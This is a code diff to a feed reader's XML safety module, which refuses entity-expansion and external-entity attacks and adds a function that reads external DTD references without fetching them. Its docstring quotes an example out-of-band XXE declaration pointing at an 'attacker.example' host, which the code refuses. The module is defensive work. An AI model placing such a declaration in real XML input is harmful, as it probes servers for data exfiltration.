@@ -1,4 +1,5 @@
-"""Refuses hostile XML (entity expansion, external entities) from its prolog, before any parser.
+"""Refuses hostile XML (entity expansion, external entities) from its prolog, before any parser,
+and reads what is left of a DTD the way a processor that never fetches anything does.
 
 Parsers differ in how they treat a DTD, and feedparser falls back to a lenient parser that
 expands entities expat already refused (a flat "quadratic" entity used 10,000 times cost 7 s
@@ -12,14 +13,30 @@ the root element counts, even one inside a comment (feedparser's own DOCTYPE rew
 declarations with a regular expression that does not know about comments). ``check_text`` runs
 the same check on text already decoded, so a document whose bytes look harmless in one
 encoding cannot turn hostile in the encoding it is finally read in (UTF-7 is the classic).
+
+External DTDs are never fetched, but many real feeds name one: Netscape's RSS 0.91 DTD as the
+DOCTYPE's external subset, or the XHTML entity sets as external parameter entities in RDF feeds
+(``<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "…xhtml-lat1.ent">
+%HTMLlat1;``) so that ``&eacute;`` and ``&nbsp;`` may be used. Such a document is well-formed
+XML: where a DTD has parts the processor does not read, an undeclared entity is no error. So
+these declarations are not refused; ``ignore_external_dtd`` drops the parameter entities and
+their references, and writes each entity name the document uses but does not declare as the
+character reference the HTML entity set (which the XHTML sets and Netscape's DTD are) gives it,
+or as literal text when the name is not an HTML one. Both parsers then read the same, clean
+document. A parameter entity that names no entity set (``<!ENTITY % p SYSTEM
+"http://attacker.example/x.dtd">``) is the shape of an out-of-band XXE probe and is refused as
+before, as are external general entities, whose uses would put outside text in the feed.
 """
 
 from __future__ import annotations
 
 import codecs
+import functools
+import html.entities
 import re
 from dataclasses import dataclass
 from typing import NoReturn
+from urllib.parse import urlsplit
 
 from reader.bom import BOMS
 from reader.errors import HostileDocument
@@ -33,6 +50,7 @@ __all__ = [
     "check_prolog",
     "check_text",
     "encoding_hints",
+    "ignore_external_dtd",
 ]
 
 #: Feeds bigger than this are refused before anything reads them (the fetcher caps downloads too).
@@ -71,6 +89,8 @@ _ENTITY_BODY = re.compile(r"\s*(%\s*)?([^\s\"'%>]*)\s*(.*)", re.DOTALL)
 _LITERAL = re.compile(r"\s*(?:\"([^\"]*)\"|'([^']*)')")
 _CHAR_REF = re.compile(r"&#(?:x([0-9A-Fa-f]+)|([0-9]+));")
 _REFERENCE = re.compile(r"&(?!#)|%")
+_QUOTED = r"(?:\"[^\"]*\"|'[^']*')"
+_EXTERNAL_ID = re.compile(rf"(?:PUBLIC\s*({_QUOTED})\s*|SYSTEM\s*)({_QUOTED})", re.IGNORECASE)
 
 
 @dataclass(frozen=True, slots=True)
@@ -89,10 +109,13 @@ class EncodingHints:
 
 @dataclass(frozen=True, slots=True)
 class Prolog:
-    """Where the root element starts (-1 and None when the document has none)."""
+    """Where the root element starts (-1 and None when the document has none), and where the
+    DOCTYPE declaration starts and ends (-1 and -1 without one)."""
 
     root_offset: int
     root: str | None
+    doctype_start: int = -1
+    doctype_end: int = -1
 
 
 def encoding_hints(data: bytes) -> EncodingHints:
@@ -110,13 +133,14 @@ def encoding_hints(data: bytes) -> EncodingHints:
 def check_prolog(data: bytes) -> None:
     """Raise HostileDocument if the document's DTD declares entities that are not harmless.
 
-    Refused: parameter entities, external entities (SYSTEM/PUBLIC), entities whose value refers
-    to another entity (directly or through a character reference such as ``&#38;``),
-    attribute defaults that use entities, more than MAX_ENTITY_DECLARATIONS declarations or
-    MAX_DECLARED_ENTITY_CHARS of declared text, and entities whose uses in the document would
-    add more than a budget of text. The prolog is decoded as the BOM, the byte pattern of
-    ``<?`` or the XML declaration says (UTF-8 otherwise); only the first few KB are decoded
-    unless the prolog is longer or long entities need their uses counted.
+    Refused: parameter entities (save external ones that name an entity set, which are never
+    read: see ``ignore_external_dtd``), external general entities (SYSTEM/PUBLIC), entities
+    whose value refers to another entity (directly or through a character reference such as
+    ``&#38;``), attribute defaults that use entities, more than MAX_ENTITY_DECLARATIONS
+    declarations or MAX_DECLARED_ENTITY_CHARS of declared text, and entities whose uses in the
+    document would add more than a budget of text. The prolog is decoded as the BOM, the byte
+    pattern of ``<?`` or the XML declaration says (UTF-8 otherwise); only the first few KB are
+    decoded unless the prolog is longer or long entities need their uses counted.
     """
     hints = encoding_hints(data)
     codec = hints.sniffed or _known_codec(hints.declared) or "utf-8"
@@ -180,6 +204,7 @@ def _find_root(text: str) -> Prolog:
     prolog checked is never shorter than the one a lenient parser would read.
     """
     pos = 0
+    doctype = (-1, -1)
     while True:
         lt = text.find("<", pos)
         if lt < 0:
@@ -191,12 +216,14 @@ def _find_root(text: str) -> Prolog:
         elif text.startswith("<!", lt):
             if text[lt + 2:lt + 9].upper() == "DOCTYPE":
                 end = _doctype_end(text, lt + 9)
+                if doctype[0] < 0:
+                    doctype = (lt, end)
             else:
                 end = _after(text, ">", lt + 2)
         else:
             match = _ROOT.match(text, lt)
             if match:
-                return Prolog(lt, match.group(1))
+                return Prolog(lt, match.group(1), *doctype)
             end = lt + 1
         if end < 0:
             return Prolog(-1, None)
@@ -265,8 +292,10 @@ def _entity(declaration: str) -> tuple[str, str]:
     body = _ENTITY_BODY.match(declaration)
     assert body is not None  # every part of the pattern may match nothing
     parameter, name, rest = body.groups()
+    if parameter and _names_entity_set(rest):
+        return name, ""  # never read: ignore_external_dtd drops it
     if parameter:
-        _refuse(f"it declares a parameter entity (%{name})")
+        _refuse(f"it declares a parameter entity (%{name}) that names no entity set")
     if rest[:6].upper() in ("SYSTEM", "PUBLIC"):
         _refuse(f"it declares an external entity ({name})")
     literal = _LITERAL.match(rest)
@@ -279,6 +308,17 @@ def _entity(declaration: str) -> tuple[str, str]:
     if "&" in expanded or "%" in expanded:
         _refuse(f"entity {name} hides a reference in a character reference")
     return name, expanded
+
+
+def _names_entity_set(rest: str) -> bool:
+    """Whether an external parameter entity names a published entity set: by a public
+    identifier (``-//W3C//ENTITIES Latin 1 for XHTML//EN``), or by a system identifier that is
+    an entity-set file (``xhtml-lat1.ent``), as the XHTML, HTML and MathML sets are named."""
+    external = _EXTERNAL_ID.fullmatch(rest.strip())
+    if external is None:
+        return False
+    public, system = external.group(1), external.group(2)
+    return public is not None or urlsplit(system[1:-1]).path.lower().endswith(".ent")
 
 
 def _char(match: re.Match[str]) -> str:
@@ -298,6 +338,136 @@ def _check_expansion(text: str, long_entities: dict[str, int]) -> None:
         added += long_entities[match.group(1)]
         if added > budget:
             _refuse(f"its entities would expand to more than {budget} characters")
+
+
+# --- reading a DTD without its outside ---------------------------------------------------------
+
+_NAME = r"[^\W\d][\w.:-]*"
+_DOCTYPE_HEAD = re.compile(
+    rf"<!DOCTYPE\s+({_NAME})(\s+(?:SYSTEM\s*{_QUOTED}|PUBLIC\s*{_QUOTED}\s*{_QUOTED}))?\s*",
+    re.IGNORECASE)
+_DECLARATION_BODY = rf"(?:[^>\"']|{_QUOTED})*"
+# One token of an internal subset: external parameter entities (which bring in the outside),
+# internal general entities (the only declarations kept), and what is dropped unread.
+_SUBSET_TOKEN = re.compile(
+    rf"""(?P<parameter><!ENTITY\s+%\s*{_NAME}\s+(?:SYSTEM|PUBLIC){_DECLARATION_BODY}>)
+    |(?P<general><!ENTITY\s+(?P<name>{_NAME})\s*{_DECLARATION_BODY}>)
+    |%{_NAME};|\s+|<!--.*?-->|<\?.*?\?>|<!(?:ELEMENT|ATTLIST|NOTATION)\b{_DECLARATION_BODY}>""",
+    re.DOTALL | re.VERBOSE)
+_SUBSET_END = re.compile(r"\]\s*>")
+_SINGLE_QUOTED_ENTITY = re.compile(rf"<!ENTITY\s+({_NAME})\s*'([^'\"]*)'\s*>")
+# Names are references except in comments, processing instructions and CDATA sections. The
+# five predefined entities are no match, so escaped HTML costs no more than plain text.
+_NAMED_REFERENCE = re.compile(rf"&(?!(?:amp|lt|gt|quot|apos);)({_NAME});")
+_UNREFERENCED = re.compile(r"<!--|<\?|<!\[CDATA\[")
+_UNREFERENCED_END = {"<!--": "-->", "<?": "?>", "<![CDATA[": "]]>"}
+
+
+@dataclass(frozen=True, slots=True)
+class _Doctype:
+    """A DOCTYPE as the parsers are given it, and what it says about the document."""
+
+    #: The name, the external identifier if any, and the internal general entities, one a line.
+    rewritten: str
+    #: Whether it names anything outside: an external subset or external parameter entities.
+    external: bool
+    #: The general entities the internal subset declares.
+    declared: frozenset[str]
+
+
+def ignore_external_dtd(text: str, prolog: Prolog) -> str:
+    """``text`` as a processor reads it that fetches nothing, with a DOCTYPE both parsers
+    read as XML says; a document without a DOCTYPE is returned as it is.
+
+    The DOCTYPE keeps its name, its external identifier (feedparser tells Netscape's RSS 0.91
+    from it; no parser here fetches it) and its internal general entities, each on a line of
+    its own, as feedparser's own DOCTYPE rewriting needs to find them; parameter entities,
+    references to them, comments and the other declarations go, unread, and line breaks are
+    kept. When the DOCTYPE names anything outside, each entity the document uses without
+    declaring it (outside comments, processing instructions and CDATA sections) becomes a
+    character reference to what the HTML entity set gives the name, or literal text
+    (``&amp;name;``) when the name is not an HTML one. A DOCTYPE these rules cannot read is
+    left as it is, for the parsers' own lenient reading.
+    """
+    if prolog.doctype_start < 0 or prolog.root_offset < 0:
+        return text
+    doctype = _read_doctype(text[prolog.doctype_start:prolog.doctype_end])
+    if doctype is None:
+        return text
+    if doctype.external:
+        rest = _resolve_names(text, prolog.root_offset, doctype.declared)
+    else:
+        rest = text[prolog.root_offset:]
+    return "".join((text[:prolog.doctype_start], doctype.rewritten,
+                    text[prolog.doctype_end:prolog.root_offset], rest))
+
+
+def _read_doctype(doctype: str) -> _Doctype | None:
+    head = _DOCTYPE_HEAD.match(doctype)
+    if head is None:
+        return None
+    name, identifier = head.groups()
+    external = identifier is not None
+    pos = head.end()
+    entities: list[str] = []
+    declared: set[str] = set()
+    if doctype.startswith("[", pos):
+        pos += 1
+        while not doctype.startswith("]", pos):
+            token = _SUBSET_TOKEN.match(doctype, pos)
+            if token is None or token.end() == pos:
+                return None
+            external = external or token.group("parameter") is not None
+            if token.group("general"):
+                entities.append(_double_quoted(token.group("general")))
+                declared.add(token.group("name"))
+            pos = token.end()
+        end = _SUBSET_END.match(doctype, pos)
+        if end is None or end.end() != len(doctype):
+            return None
+    elif doctype[pos:] != ">":
+        return None
+    rewritten = f"<!DOCTYPE {name}{identifier or ''}"
+    if entities:
+        rewritten += " [\n" + "\n".join(entities) + "\n]"
+    rewritten += ">" + "\n" * max(0, doctype.count("\n") - rewritten.count("\n"))
+    return _Doctype(rewritten, external, frozenset(declared))
+
+
+def _double_quoted(declaration: str) -> str:
+    """An entity declaration with its value in double quotes, the only ones feedparser's DOCTYPE
+    rewriting declares again (``<!ENTITY id 'x'>`` would be undefined for its parser)."""
+    single = _SINGLE_QUOTED_ENTITY.fullmatch(declaration)
+    return declaration if single is None else f'<!ENTITY {single[1]} "{single[2]}">'
+
+
+def _resolve_names(text: str, pos: int, declared: frozenset[str]) -> str:
+    def resolve(match: re.Match[str]) -> str:
+        name = match.group(1)
+        return match.group() if name in declared else _reference(name)
+
+    pieces: list[str] = []
+    while True:
+        skipped = _UNREFERENCED.search(text, pos)
+        stop = len(text) if skipped is None else skipped.start()
+        pieces.append(_NAMED_REFERENCE.sub(resolve, text[pos:stop]))
+        if skipped is None:
+            break
+        closing = text.find(_UNREFERENCED_END[skipped.group()], skipped.end())
+        if closing < 0:
+            pieces.append(text[stop:])
+            break
+        pieces.append(text[stop:closing])
+        pos = closing
+    return "".join(pieces)
+
+
+@functools.lru_cache(maxsize=512)
+def _reference(name: str) -> str:
+    characters = html.entities.html5.get(name + ";")
+    if characters is None:
+        return f"&amp;{name};"
+    return "".join(f"&#x{ord(character):x};" for character in characters)
 
 
 def _refuse(reason: str) -> NoReturn:
